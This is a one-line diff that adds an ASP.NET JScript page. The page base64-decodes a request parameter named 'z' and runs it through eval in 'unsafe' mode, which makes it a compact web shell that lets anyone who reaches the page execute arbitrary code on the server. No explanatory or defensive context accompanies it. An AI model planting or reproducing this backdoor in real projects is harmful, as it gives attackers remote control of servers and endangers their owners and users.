@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript"%><%eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request["z"])),"unsafe");%>
